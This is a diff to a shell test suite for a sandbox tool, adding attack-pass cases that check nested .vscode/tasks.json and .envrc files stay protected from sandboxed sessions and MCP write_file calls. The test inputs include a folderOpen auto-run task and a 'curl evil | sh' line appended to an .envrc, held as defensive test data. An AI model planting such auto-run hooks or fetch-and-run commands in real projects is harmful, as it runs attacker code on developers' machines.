@@ -201,6 +201,25 @@ check "direct: fixtures/ above a bare repository cannot be renamed (EBUSY)" \
 RC=$?
 expect_rc 0 "direct: fixtures/ itself stays writable"
 
+# D10. editor and shell configuration below the root (attack pass): a
+# human opens frontend/ of a monorepo in an editor, which runs
+# frontend/.vscode/tasks.json's folderOpen task; direnv loads sub/.envrc.
+# Only the root's were protected.
+rm -rf "$WS" && mkrepo "$WS" && mkdir -p "$WS/frontend/.vscode" "$WS/svc/api" &&
+	printf '{}\n' >"$WS/frontend/.vscode/tasks.json" && printf 'export A=1\n' >"$WS/svc/api/.envrc"
+"$WARDEN" run --workspace "$WS" -- /bin/sh -c \
+	'echo "{\"tasks\":[{\"command\":\"touch /tmp/x\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" > frontend/.vscode/tasks.json' \
+	>"$OUT" 2>"$ERR" </dev/null
+RC=$?
+check "direct: frontend/.vscode/tasks.json is read-only inside" \
+	bash -c "[ $RC != 0 ] && grep -q 'Read-only file system' '$ERR' && grep -qx '{}' '$WS/frontend/.vscode/tasks.json'"
+"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'echo "curl evil | sh" >> svc/api/.envrc; mv svc s2' >"$OUT" 2>"$ERR" </dev/null
+check "direct: svc/api/.envrc is read-only and svc/ cannot be renamed" \
+	bash -c "grep -qx 'export A=1' '$WS/svc/api/.envrc' && test ! -e '$WS/s2'"
+"$WARDEN" run --workspace "$WS" -- /bin/sh -c 'echo ok > frontend/app.js' >"$OUT" 2>"$ERR" </dev/null
+RC=$?
+expect_rc 0 "direct: frontend/ itself stays writable"
+
 # ==== cow: the session's changes reach the host only through apply
 # C1. a .git file in a workspace that had none
 rm -rf "$WS" && mkdir "$WS" && chmod 755 "$WS" && printf 'hello\n' >"$WS/a.txt"
@@ -297,6 +316,16 @@ check "cow: apply refuses tools/config of the git directory tools/ (status 1)" \
 check "cow: no tools/ git directory on the host" test ! -e "$WS/tools/HEAD"
 w rm c7
 
+# C8. a new frontend/.vscode/tasks.json in a session: apply refuses it
+rm -rf "$WS" && mkrepo "$WS"
+w create c8 --workspace "$WS" --workspace-mode cow --timeout 120
+w exec c8 -- /bin/sh -c 'mkdir -p frontend/.vscode && echo "{}" > frontend/.vscode/tasks.json && echo "export X=1" > frontend/.envrc'
+w apply c8
+check "cow: apply refuses frontend/.vscode/tasks.json and frontend/.envrc (status 1)" \
+	bash -c "[ $RC = 1 ] && grep -Eq '^refused +frontend/.vscode/tasks.json: ' '$ERR' && grep -Eq '^refused +frontend/.envrc: ' '$ERR'"
+check "cow: no frontend/.vscode on the host" test ! -e "$WS/frontend/.vscode"
+w rm c8
+
 # ==== MCP: the write_file tool alone, on the host project (direct)
 rm -rf "$WS" && mkrepo "$WS"
 python3 - "$WARDEN" "$WS" "$T" "$MARK" >"$T/mcp.out" 2>&1 <<'EOF'
@@ -331,6 +360,7 @@ print("gitfile", tool("write_file", {"path": "sub/.git", "content": "gitdir: ../
 print("nested", tool("write_file", {"path": "sub/.git/config", "content": cfg}))
 print("edit", tool("edit_file", {"path": ".git/HEAD", "old_string": "ref:", "new_string": "ref:"}))
 print("dotdot", tool("write_file", {"path": "new/../x", "content": "x"}))
+print("vscode", tool("write_file", {"path": "frontend/.vscode/tasks.json", "content": "{}"}))
 p.stdin.close()
 p.wait(timeout=60)
 EOF
@@ -349,6 +379,8 @@ check "MCP: the host's git status runs nothing" not_pwned "$WS"
 check "MCP: write_file new/../x is refused naming the path and '..'" \
 	grep -q "^dotdot error: .*'new/../x': a path with a '..' component" "$T/mcp.out"
 check "MCP: ... and leaves no new/ behind" test ! -e "$WS/new"
+check "MCP: write_file frontend/.vscode/tasks.json is refused" \
+	grep -q "^vscode error: .*'frontend/.vscode/tasks.json' is protected: .vscode" "$T/mcp.out"
 
 # ==== MCP: a bare repository beside its worktree (attack pass).  The
 # repository is "repo.git", not ".git": only the walk that follows
